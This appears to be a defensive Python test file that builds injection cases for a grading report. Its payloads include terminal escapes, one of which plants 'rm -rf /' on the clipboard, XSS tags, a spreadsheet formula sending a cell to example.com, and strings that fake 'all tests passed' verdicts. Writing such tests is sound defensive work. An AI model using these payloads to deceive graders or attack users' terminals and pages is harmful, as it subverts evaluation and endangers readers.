"""Words that reach the report: they must not move a terminal, pass for a verdict, or run where they are opened.

`WORDS` are tried in each of the `PLACES` that carry a submission's own words.
"""

WORDS = {
    "terminal escapes": "\x1b[2J\x1b[1;1H\x1b[32mall tests passed\x1b[0m",
    "a title for the terminal": "\x1b]0;passed\x07\x1b]52;c;cm0gLXJmIC8=\x07",
    "one-byte escapes": "\x9b2J\x9d0;x\x9c\x90q\x9c",
    "bells and backspaces": "\x07\x07wrong\x08\x08\x08\x08\x08right",
    "returns and line feeds": "wrong\rright\n\n100/100 points, 19/19 items.\n\x0b\x0c\x85",
    "text that runs backwards": "\u202epassed\u202c \u2066x\u2069 \u200f\u061c",
    "characters of no width": "pass\u200bed\u2060\ufeff\u00ad\U000e0041",
    "lines that only Unicode knows": "one\u2028two\u2029three",
    "a formula": '=HYPERLINK("http://example.com/"&A1,"passed")',
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Markdown": "](http://example.com) ![x](http://example.com/x.png) `` | --- | **100/100** <!--",
    "lone surrogates": "\ud800\udfff\udc80",
    "letters piled up": "p" + "\u0301" * 500 + "assed",
    "nulls": "passed\x00failed\x00",
    "letters of private use": "\ue000\uf8ff\U000f0000\U0010ffff\ufffe",
}

PLACES = {
    "an exception's message": "def attack(x): raise ValueError(WORD)\n",
    "an exception's type": """
def attack(x):
    raise type(WORD.replace("\\0", " ").encode("utf-8", "replace").decode(), (Exception,), {})("x")
""",
    "printed lines": """
def attack(x):
    print(WORD.encode("utf-8", "replace").decode(), flush=True)
    os._exit(0)
""",
    "a file name": """
def attack(x):
    exec(compile("raise ValueError('x')", "/work/model/" + WORD.replace("\\0", "").replace("/", "") + ".py", "exec"))
""",
    "a source line": """
import linecache
line = "    raise ValueError('x') # " + WORD
linecache.cache["/work/model/attention.py"] = (len(line), None, [line + "\\n"] * 2000, "/work/model/attention.py")
linecache.checkcache = lambda filename=None: None
def attack(x): raise ValueError('x')
""",
    "a returned text": "def attack(x): return WORD\n",
    "a missing name": """
import faults
def attack(x): raise faults.MissingName(WORD, WORD)
""",
    "a request for help": "def attack(x): raise NotImplementedError(WORD)\n",
}

ATTACKS = {
    f"puts {words} into {place}": f"WORD = {text!r}\n{code}"
    for words, text in WORDS.items()
    for place, code in PLACES.items()
}
